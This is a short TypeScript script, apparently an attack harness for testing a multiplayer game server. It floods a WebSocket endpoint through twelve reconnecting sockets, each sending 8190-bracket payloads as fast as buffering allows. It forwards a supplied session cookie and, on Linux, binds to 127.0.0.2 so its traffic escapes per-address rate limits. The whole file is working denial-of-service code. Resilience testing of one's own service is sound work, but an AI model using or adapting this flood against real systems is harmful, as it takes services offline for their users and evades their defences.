/** The inside of an attack: one guest with as many sockets as he may have, each full of brackets; what is closed is opened again. */
import { WebSocket } from 'ws'

const SOCKETS = 12
const BRACKETS = '['.repeat(8190)
const MOST_WAITING = 1_000_000
const AT_ONCE = 32
const AGAIN_MS = 50

const [origin = '', cookie = ''] = process.argv.slice(2)
const told = { sent: 0, opened: 0, turnedAway: 0 }

/** Another network than that of those who play: what it uses up of requests is its own. Only Linux has it without being asked. */
const from = process.platform === 'linux' ? { localAddress: '127.0.0.2' } : {}

function flood(): void {
  const settings = { origin, headers: { cookie }, perMessageDeflate: false, ...from }
  const socket = new WebSocket(`${origin.replace('http', 'ws')}/socket`, settings)
  const again = () => {
    socket.removeAllListeners('close')
    setTimeout(flood, AGAIN_MS)
  }
  const more = () => {
    for (let n = 0; n < AT_ONCE && socket.readyState === socket.OPEN && socket.bufferedAmount < MOST_WAITING; n++) {
      socket.send(BRACKETS)
      told.sent++
    }
    if (socket.readyState === socket.OPEN) setImmediate(more)
  }
  socket.on('open', () => {
    told.opened++
    more()
  })
  socket.on('unexpected-response', request => {
    told.turnedAway++
    request.destroy()
    again()
  })
  socket.on('error', () => undefined)
  socket.on('close', again)
}
for (let n = 0; n < SOCKETS; n++) flood()
process.on('SIGTERM', () => {
  console.log(JSON.stringify(told))
  process.exit(0)
})
console.log('begun')
